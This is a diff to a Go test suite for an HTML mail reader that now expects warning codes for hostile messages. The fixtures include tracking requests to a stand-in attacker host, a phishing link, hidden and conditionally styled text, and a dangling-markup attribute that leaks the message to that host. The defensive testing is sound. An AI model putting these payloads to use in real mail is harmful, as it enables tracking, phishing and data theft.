@@ -159,8 +159,8 @@ func htmlCases() []Case {
 	unsigned := func(text, not []string) Expectation {
 		return Expectation{Verdict: "unsigned", Text: text, NotText: not, NotScreen: append([]string{"▌ PASSED", "\x1b"}, not...)}
 	}
-	open := func(e Expectation, code, why string) Expectation {
-		e.Codes, e.Open = append(e.Codes, code), why
+	coded := func(e Expectation, code string) Expectation {
+		e.Codes = append(e.Codes, code)
 		return e
 	}
 	return []Case{
@@ -179,14 +179,14 @@ func htmlCases() []Case {
 		{"643-remote-content", `
 			Images, a style sheet, a font, a frame, a video and a background from Mallory's server, each of which tells her when and where the
 			mail was read. Nothing remote is loaded. That there was something is said.`,
-			open(unsigned([]string{"Dear Bob"}, []string{"mallory.test"}), "remote-content", "remote references are not told of"),
+			coded(unsigned([]string{"Dear Bob"}, []string{"mallory.test"}), "remote-content"),
 			page(`<link rel=stylesheet href="http://mallory.test/s.css"><style>@import "http://mallory.test/i.css"; p{background:url(http://mallory.test/b.png)}</style>
 <p background="http://mallory.test/bg">Dear Bob</p><img src="http://mallory.test/1.png" srcset="http://mallory.test/2.png 2x" alt=""><iframe src="http://mallory.test/f"></iframe>
 <video poster="http://mallory.test/p"><source src="http://mallory.test/v"></video>`)},
 		{"644-link-that-leads-elsewhere", `
 			A link whose words are https://bank.example.test/ and whose target is Mallory's server. Where a link leads is said beside its words,
 			and that it differs is told.`,
-			open(unsigned([]string{"bank.example.test", "http://mallory.test/login"}, nil), "link-differs", "links that lead elsewhere are not told of"),
+			coded(unsigned([]string{"bank.example.test", "http://mallory.test/login"}, nil), "link-differs"),
 			page(`<p>Log in at <a href="http://mallory.test/login">https://bank.example.test/</a></p>`)},
 		{"645-links-that-are-no-links", `
 			Links with javascript:, data: and vbscript: targets, and with controls in the scheme. Nobody is to follow them; their words
@@ -197,30 +197,31 @@ func htmlCases() []Case {
 			Text that a browser does not show: display:none, visibility:hidden, font-size 0, white on white, opacity 0, the hidden attribute, a
 			comment. Mallory means it for filters and for quotes, or means a person to sign what is not seen. It is not shown, and that there
 			was some is said.`,
-			open(unsigned([]string{"Dear Bob"}, []string{"UNSEEN"}), "hidden-text", "hidden text is shown, and not told of"),
+			coded(unsigned([]string{"Dear Bob"}, []string{"UNSEEN"}), "hidden-text"),
 			page(`<p>Dear Bob</p><div style="display:none">UNSEEN 1</div><span style="visibility:hidden">UNSEEN 2</span><span style="font-size:0px">UNSEEN 3</span><span style="color:#fff;background:#ffffff">UNSEEN 4</span><p style="opacity:0">UNSEEN 5</p><p hidden>UNSEEN 6</p><!-- UNSEEN 7 --><p style="position:absolute;left:-9999px">UNSEEN 8</p>`)},
 		{"647-hidden-by-a-style-sheet", `
 			The same by rules in a style element: a class, an identifier, a list of selectors. A reader that looks at style attributes alone
 			shows it.`,
-			open(unsigned([]string{"Dear Bob"}, []string{"UNSEEN"}), "hidden-text", "text that a style sheet hides is shown, and not told of"),
+			coded(unsigned([]string{"Dear Bob"}, []string{"UNSEEN"}), "hidden-text"),
 			page(`<style>.x{display:none} #y, p.z { visibility: hidden }</style><p>Dear Bob</p><p class="a x">UNSEEN 1</p><p id=y>UNSEEN 2</p><p class=z>UNSEEN 3</p>`)},
 		{"648-conditional-display", `
 			Style rules under @media and attribute selectors show one text here and another text there: to Bob "I agree", to a court "I do not"
 			(published as a way to have people sign what they do not see). What is shown may differ from what others see, and that
 			is said.`,
-			open(Expectation{Verdict: "passed", Text: []string{"Dear Bob"}}, "conditional-style", "conditional style is not told of"),
+			coded(Expectation{Verdict: "passed", Text: []string{"Dear Bob"}}, "conditional-style"),
 			func(l *Lab) string {
 				return l.mail(l.sign(html(`<style>@media screen{.s{display:block}.p{display:none}} @media print{.s{display:none}} [data-x] .q{display:none}</style><p>Dear Bob</p><p class=s>I agree</p><p class=p>I do not agree</p>`), l.Alice))
 			}},
 		{"649-attribute-that-swallows", `
 			An attribute is opened with a quote that nothing closes, so that all that follows is its value. A browser shows nothing of
-			it, and a reader that repairs it in its own way shows something else. It is HTML of a part, and ends with the part.`,
-			unsigned([]string{"Dear Bob"}, nil),
+			it, and a reader that repairs it in its own way shows something else. It is HTML of a part, and ends with the part; that
+			an address swallows text is said.`,
+			coded(unsigned([]string{"Dear Bob"}, nil), "swallowed-text"),
 			page(`<p>Dear Bob</p><img src="http://mallory.test/?<p>the rest of the message`)},
 		{"650-comments", `
 			Conditional comments of an office program, and comments that end in odd ways: --!>, a dash too many, none at all. What they hold
 			is shown by some readers and not by others. A comment ends where the HTML standard says it does, and holds no text.`,
-			unsigned([]string{"Dear Bob", "Regards"}, []string{"UNSEEN"}),
+			coded(unsigned([]string{"Dear Bob", "Regards"}, []string{"UNSEEN"}), "conditional-style"),
 			page(`<p>Dear Bob</p><!--[if mso]><p>UNSEEN 1</p><![endif]--><!-- UNSEEN 2 --!><p>Regards</p><!--><p>seen</p><!--->`)},
 		{"651-table-and-list", `
 			A table whose cells say "pay", "10" and a list that begins at 9000. Turned into text, cells must not run into each other, and
